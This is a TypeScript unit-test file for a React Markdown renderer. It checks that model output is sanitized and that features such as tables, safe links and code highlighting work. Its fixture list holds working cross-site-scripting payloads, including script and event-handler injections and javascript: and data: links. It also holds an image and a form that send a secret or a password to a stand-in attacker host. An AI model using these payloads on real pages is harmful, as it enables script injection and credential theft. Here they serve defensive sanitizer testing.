import { render, screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import Markdown from './markdown';

// Model output is untrusted: each payload must render as inert text or be dropped.
const PAYLOADS = [
  '<script>window.pwned = 1</script>',
  '<img src="x" onerror="window.pwned = 1">',
  '<a href="javascript:window.pwned = 1">raw html link</a>',
  '[markdown link](javascript:window.pwned=1)',
  '[entity link](&#106;avascript:window.pwned=1)',
  '[mixed case](JaVaScRiPt:window.pwned=1)',
  '<javascript:window.pwned=1>',
  '[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![pixel](https://evil.example/p.png?leak=secret)',
  '![js image](javascript:window.pwned=1)',
  '<iframe src="https://evil.example"></iframe>',
  '<svg onload="window.pwned = 1"><circle r="1"/></svg>',
  '<div style="position:fixed;inset:0" onclick="window.pwned=1">overlay</div>',
  '<form action="https://evil.example"><input name="password"></form>',
];

function assertInert(container: HTMLElement) {
  const active = container.querySelectorAll(
    'script, iframe, object, embed, svg, form, input, style, img, [style], [onerror], [onload], [onclick]',
  );
  expect(active).toHaveLength(0);
  for (const element of container.querySelectorAll('[href], [src]')) {
    const url = element.getAttribute('href') ?? element.getAttribute('src') ?? '';
    expect(url).toMatch(/^(https?:|mailto:)/);
  }
}

describe('Markdown sanitizing', () => {
  it.each(PAYLOADS)('renders %s inert', (payload) => {
    const { container } = render(<Markdown text={`Before\n\n${payload}\n\nAfter`} />);
    assertInert(container);
    expect(container).toHaveTextContent('Before');
    expect(container).toHaveTextContent('After');
  });

  it('renders all payloads together inert, showing raw HTML as text', () => {
    const { container } = render(<Markdown text={PAYLOADS.join('\n\n')} />);
    assertInert(container);
    expect(container).toHaveTextContent('<script>window.pwned = 1</script>');
    expect(container).toHaveTextContent('<img src="x" onerror="window.pwned = 1">');
    expect((window as { pwned?: number }).pwned).toBeUndefined();
  });

  it('keeps the text of a dropped link and marks a blocked image', () => {
    render(
      <Markdown
        text={'[markdown link](javascript:alert(1)) ![pixel](https://evil.example/p.png)'}
      />,
    );
    expect(screen.getByText('markdown link').closest('a')).toBeNull();
    expect(screen.getByText('[image: pixel]')).toBeInTheDocument();
  });

  it('renders safe links that open in a new tab without an opener', () => {
    render(<Markdown text="See [the docs](https://example.com/docs)." />);
    const link = screen.getByRole('link', { name: 'the docs' });
    expect(link).toHaveAttribute('href', 'https://example.com/docs');
    expect(link).toHaveAttribute('target', '_blank');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
  });

  it('renders GitHub-flavoured markdown', () => {
    const { container } = render(
      <Markdown text={'| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n~~old~~'} />,
    );
    expect(container.querySelector('table')).not.toBeNull();
    expect(container.querySelector('del')).toHaveTextContent('old');
  });

  it('highlights fenced code lazily and offers a copy button', async () => {
    const { container } = render(
      <Markdown text={'```python\ndef add(a, b):\n    return a + b\n```'} />,
    );
    expect(screen.getByTestId('code-block')).toHaveTextContent('python');
    expect(screen.getByRole('button', { name: 'Copy code' })).toBeInTheDocument();
    // The highlighter chunk arrives asynchronously and turns tokens into spans.
    expect(await screen.findByText('def')).toHaveClass('hljs-keyword');
    expect(container.querySelector('code')).toHaveTextContent('def add(a, b): return a + b');
  });
});
